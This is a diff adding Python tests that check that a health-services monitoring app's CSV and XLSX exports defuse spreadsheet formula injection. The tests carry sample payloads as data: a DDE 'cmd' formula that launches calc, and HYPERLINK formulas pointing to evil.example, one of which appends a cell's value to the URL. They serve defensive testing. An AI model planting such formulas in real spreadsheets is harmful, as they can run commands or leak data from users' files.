@@ -143,3 +143,66 @@ def test_measure_report_leaves_suppressed_figures_out() -> None:
     assert "measureScore" not in body["group"][0] and "population" not in body["group"][0]
     assert body["group"][0]["stratifier"][0]["stratum"][0]["measureScore"]["value"] == 50.0
     assert period_range("2024-Q4") == (period_range("2024-10")[0], period_range("2024-12")[1])
+
+
+# ---------------------------------------------------------------- formula injection (2.1)
+
+EVIL = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1"]
+
+
+def test_csv_text_that_looks_like_a_formula_is_quoted_numbers_stay_numbers() -> None:
+    from sotekeskus.spreadsheet import csv_cell, write_csv
+
+    for text in EVIL:
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("Keskusta - Pohjoinen") == "Keskusta - Pohjoinen"  # only the first char
+    assert csv_cell("<5") == "<5"
+    # by type: a negative number is a number, the string "-3" is text
+    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5
+    assert csv_cell("-3") == "'-3"
+    assert csv_cell(None) == "" and csv_cell(float("nan")) == "" and csv_cell(float("inf")) == ""
+    rows = list(csv.reader(io.StringIO(write_csv(["name", "days"], [[EVIL[0], -3]]))))
+    assert rows == [["name", "days"], ["'" + EVIL[0], "-3"]]
+
+
+def test_xlsx_never_holds_a_formula_and_stores_control_characters() -> None:
+    from sotekeskus.spreadsheet import REPLACEMENT_CHAR, Sheet, write_xlsx
+
+    bad = "U1\x00\x01\x0b\x1f name"
+    data = write_xlsx([Sheet("t[1]:x", ["=name", "days"],
+                             [[t, -3] for t in EVIL] + [[bad, 1.5], ["x" * 40000, None]])])
+    ws = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert ws["A1"].value == "=name" and ws["A1"].data_type == "s"
+    assert [ws.cell(row=i + 2, column=1).value for i in range(len(EVIL))] == EVIL
+    assert ws.cell(row=2, column=2).value == -3 and ws.cell(row=2, column=2).data_type == "n"
+    assert ws.cell(row=len(EVIL) + 2, column=1).value == "U1" + REPLACEMENT_CHAR * 4 + " name"
+    assert len(ws.cell(row=len(EVIL) + 3, column=1).value) == 32767
+    assert ws.title == "t_1__x"
+
+
+def test_exported_indicator_names_cannot_run_as_formulas(app, client_for) -> None:
+    """An administrator's indicator name starting with '=' reaches both downloads inert."""
+    from sotekeskus.store.monitoring import delete_indicator, save_indicator
+
+    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ind = save_indicator(app.state.engine, code="evil-name", name_fi=name, name_sv=name,
+                         name_en=name + "\x07", targets={"2025": 1})
+    try:
+        c = client_for("leadership")
+        rows = list(csv.DictReader(io.StringIO(c.get("/monitoring/export/monitoring.csv").text)))
+        mine = [r for r in rows if r["indicator"] == "evil-name"]
+        assert mine and all(r["name"] == "'" + name for r in mine)
+        for lang in ("fi", "en"):
+            c.cookies.set("sotekeskus_lang", lang)
+            x = c.get("/monitoring/export/monitoring.xlsx")
+            assert x.status_code == 200
+            ws = load_workbook(io.BytesIO(x.content)).active
+            assert not [cell.coordinate for row in ws.iter_rows() for cell in row
+                        if cell.data_type == "f"]
+            names = [row[1] for row in ws.iter_rows(values_only=True) if row[0] == "evil-name"]
+            assert names and names[0].startswith("=HYPERLINK")
+    finally:
+        delete_indicator(app.state.engine, ind.id)
